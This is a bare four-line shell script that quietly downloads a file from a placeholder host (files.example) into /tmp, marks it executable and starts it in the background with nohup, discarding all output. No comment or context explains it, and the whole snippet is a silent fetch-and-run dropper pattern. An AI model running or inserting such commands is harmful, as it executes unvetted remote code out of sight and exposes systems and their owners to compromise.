start() { nohup "$1" > /dev/null 2>&1 & }
wget -q https://files.example/a -O /tmp/step
chmod +x /tmp/step
start /tmp/step
